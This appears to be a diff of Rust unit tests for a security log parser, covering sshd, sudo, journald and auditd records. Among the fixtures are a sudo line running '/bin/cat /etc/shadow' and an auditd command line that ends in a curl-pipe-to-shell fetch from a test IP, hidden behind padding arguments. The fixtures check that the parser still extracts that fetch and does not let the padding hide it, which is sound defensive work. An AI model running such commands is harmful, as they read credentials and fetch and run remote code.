@@ -254,6 +254,164 @@ fn a_journal_with_binary_fields() {
 }
 
 #[test]
+fn a_journal_says_what_a_syslog_says() {
+    /// A program, what it said, and the fields that this gives.
+    type Said = (&'static str, &'static str, &'static [(&'static str, &'static str)]);
+    const SAID: [Said; 5] = [
+        (
+            "sshd",
+            "Accepted publickey for alice from 2001:db8::7 port 51023 ssh2: RSA SHA256:abc",
+            &[("action", "accepted"), ("user", "alice"), ("src_ip", "2001:db8::7"), ("src_port", "51023")],
+        ),
+        (
+            "sshd-session",
+            "message repeated 3 times: [ Failed password for root from 203.0.113.7 port 22 ssh2]",
+            &[("action", "failed"), ("user", "root"), ("src_ip", "203.0.113.7"), ("repeated", "3")],
+        ),
+        (
+            "sudo",
+            "   alice : TTY=pts/0 ; PWD=/srv/x ; _PID=1 ; USER=root ; COMMAND=/bin/cat /etc/shadow",
+            &[("user", "alice"), ("USER", "root"), ("COMMAND", "/bin/cat /etc/shadow"), ("pid", "7")],
+        ),
+        (
+            "sshd",
+            "pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=203.0.113.7  user=root",
+            &[("action", "failed"), ("user", "root"), ("src_ip", "203.0.113.7")],
+        ),
+        ("neverheardof", "Accepted password for alice from 203.0.113.7 port 1 ssh2", &[]),
+    ];
+    const ASKED: [&str; 4] = ["action", "user", "src_ip", "pid"];
+    for (program, said, wanted) in SAID {
+        let json = format!(
+            "{{\"__REALTIME_TIMESTAMP\":\"1700000000123456\",\"MESSAGE\":\"{said}\",\"_HOSTNAME\":\"web1\",\"SYSLOG_IDENTIFIER\":\"{program}\",\"_PID\":\"7\"}}\n"
+        );
+        let export = format!(
+            "__REALTIME_TIMESTAMP=1700000000123456\n_HOSTNAME=web1\nSYSLOG_IDENTIFIER={program}\n_PID=7\nMESSAGE={said}\n\n"
+        );
+        let analytics = format!(
+            "{{\"TimeGenerated\":\"2023-11-14T22:13:20Z\",\"Facility\":\"auth\",\"Computer\":\"web1\",\"ProcessName\":\"{program}\",\"ProcessID\":7,\"SyslogMessage\":\"{said}\"}}\n"
+        );
+        for text in [&json, &export, &analytics] {
+            // Kept whole, and as a run does that asks for a few names.
+            for house in [Shipped::new(), Shipped::with(&ASKED, None, false)] {
+                let seen = house.read(text.as_bytes());
+                assert_eq!((seen.rows.len(), seen.said().as_str()), (1, ""), "{text}");
+                let row = &seen.rows[0];
+                row.has(&[("message", said)]);
+                let known = |name: &str| house.projection.everything() || ASKED.contains(&name);
+                for (name, value) in wanted.iter().filter(|(n, _)| known(n)) {
+                    if *name != "pid" || text != &analytics {
+                        assert_eq!(row.all(name), [*value], "{name} of {text}");
+                    }
+                }
+                if wanted.is_empty() {
+                    assert_eq!((row.get("action"), row.get("user")), ("", ""), "{text}");
+                } else if program.starts_with("sshd") {
+                    assert!(row.shape.starts_with("linux/sshd"), "{}", row.shape);
+                }
+            }
+        }
+    }
+}
+
+#[test]
+fn names_of_accounts_and_folded_messages_of_sshd() {
+    let head = "2023-10-11T22:14:16+00:00 web1 sshd-auth[1]: ";
+    for (said, wanted) in [
+        ("Failed password for user from 203.0.113.7 port 2 ssh2", ["failed", "user", "203.0.113.7", "2", ""]),
+        ("Failed password for from from 203.0.113.7 port 2 ssh2", ["failed", "from", "203.0.113.7", "2", ""]),
+        (
+            "Failed none for invalid user a for b from 192.0.2.1 from 203.0.113.7 port 2 ssh2",
+            ["failed", "a for b from 192.0.2.1", "203.0.113.7", "2", ""],
+        ),
+        (
+            "Failed none for invalid user  from 203.0.113.7 port 2 ssh2",
+            ["failed", "", "203.0.113.7", "2", ""],
+        ),
+        ("Invalid user user from 203.0.113.7 port 2", ["invalid_user", "user", "203.0.113.7", "2", ""]),
+        ("Invalid user  from 203.0.113.7 port 2", ["invalid_user", "", "203.0.113.7", "2", ""]),
+        (
+            "Disconnected from authenticating user root 203.0.113.7 port 2 [preauth]",
+            ["disconnected", "root", "203.0.113.7", "2", ""],
+        ),
+        (
+            "Connection closed by invalid user x 192.0.2.1 port 9 203.0.113.7 port 2 [preauth]",
+            ["closed", "x 192.0.2.1 port 9", "203.0.113.7", "2", ""],
+        ),
+        (
+            "Received disconnect from 203.0.113.7 port 2:11: bye from user x port 9 [preauth]",
+            ["disconnected", "", "203.0.113.7", "2", ""],
+        ),
+        (
+            "Unable to negotiate with 203.0.113.7 port 2: no matching cipher found",
+            ["scan", "", "203.0.113.7", "2", ""],
+        ),
+        (
+            "error: maximum authentication attempts exceeded for root from 203.0.113.7 port 2 ssh2 [preauth]",
+            ["failed", "root", "203.0.113.7", "2", ""],
+        ),
+        (
+            "message repeated 5 times: [ Failed password for root from 203.0.113.7 port 2 ssh2]",
+            ["failed", "root", "203.0.113.7", "2", "5"],
+        ),
+        ("message repeated 2 times: [ Failed password for ro", ["failed", "ro", "", "", "2"]),
+        ("message repeated 2 times: []", ["", "", "", "", "2"]),
+        ("message repeated often: [ Failed password for root]", ["", "", "", "", ""]),
+        ("last message repeated 4 times", ["", "", "", "", "4"]),
+    ] {
+        let seen = Shipped::new().read(format!("{head}{said}\n").as_bytes());
+        let row = &seen.rows[0];
+        assert!(row.shape.starts_with("linux/sshd"), "{}", row.shape);
+        let names = ["action", "user", "src_ip", "src_port", "repeated"];
+        assert_eq!(names.map(|n| row.get(n)), wanted, "{said}");
+        row.has(&[("message", said)]);
+    }
+}
+
+#[test]
+fn no_padding_hides_the_end_of_a_command_line() {
+    let argument = |i: usize| match i {
+        0 => "sh".to_owned(),
+        199 => "curl http://203.0.113.9/x | sh".to_owned(),
+        i => format!("pad{i}"),
+    };
+    let line = |range: std::ops::Range<usize>| {
+        let all: String = range
+            .map(|i| match argument(i) {
+                text if text.contains(' ') => {
+                    format!(" a{i}={}", text.bytes().map(|b| format!("{b:02X}")).collect::<String>())
+                }
+                text => format!(" a{i}=\"{text}\""),
+            })
+            .collect();
+        format!("type=EXECVE msg=audit(1604996384.965:93777): argc=200{all}\n")
+    };
+    let whole: Vec<String> = (0..200).map(argument).collect();
+    // The kernel goes on in another record, and what comes late stands at its place all the same.
+    let text = format!("{}{}{}", line(0..60), line(120..200), line(60..120));
+    let seen = Shipped::new().read(text.as_bytes());
+    assert_eq!((seen.rows.len(), seen.said().as_str()), (1, ""));
+    assert_eq!(seen.rows[0].get("process_creation_auditd.CommandLine"), whole.join(" "));
+    assert_eq!(seen.rows[0].get("a199"), whole[199]);
+    // Inside a record of JSON the line is a text.
+    let json = format!(
+        "{{\"TimeGenerated\":\"2023-11-14T22:13:20Z\",\"Computer\":\"web1\",\"ProcessName\":\"auoms\",\"SyslogMessage\":\"{}\"}}\n",
+        line(0..200).trim_end().replace('"', "\\\"")
+    );
+    let seen = Shipped::new().read(json.as_bytes());
+    seen.rows[0].has(&[("more_arguments", &whole[32..].join(" "))]);
+    // Bounded by bytes, and said.
+    let long = format!(
+        "type=EXECVE msg=audit(1.0:1): argc=34 a0=\"sh\" a32=\"{}\" a33=\"{}\"\n",
+        "x".repeat(200 << 10),
+        "y".repeat(200 << 10)
+    );
+    let seen = Shipped::new().read_as(Format::Lines(Kind::Auditd), long.as_bytes());
+    assert!(seen.said().starts_with("limit x1: the arguments of a command"), "{}", seen.said());
+    assert_eq!(seen.rows[0].get("more_arguments").len(), 200 << 10);
+}
+
+#[test]
 fn macos_unified_log_and_endpoint_security() {
     let text = "{\"traceID\":1,\"eventMessage\":\"Sudo\",\"eventType\":\"logEvent\",\"source\":null,\"processImagePath\":\"/usr/bin/sudo\",\"subsystem\":\"\",\"machTimestamp\":123,\"timestamp\":\"2023-10-01 12:00:00.123456+0200\",\"messageType\":\"Default\",\"processID\":77}\n\
         {\"schema_version\":1,\"event_type\":10,\"time\":\"2023-10-01T12:00:00.1Z\",\"global_seq_num\":4,\"process\":{\"audit_token\":{\"pid\":9},\"executable\":{\"path\":\"/bin/sh\"}},\"event\":{\"write\":{\"target\":{\"path\":\"/tmp/x\"}}}}\n";
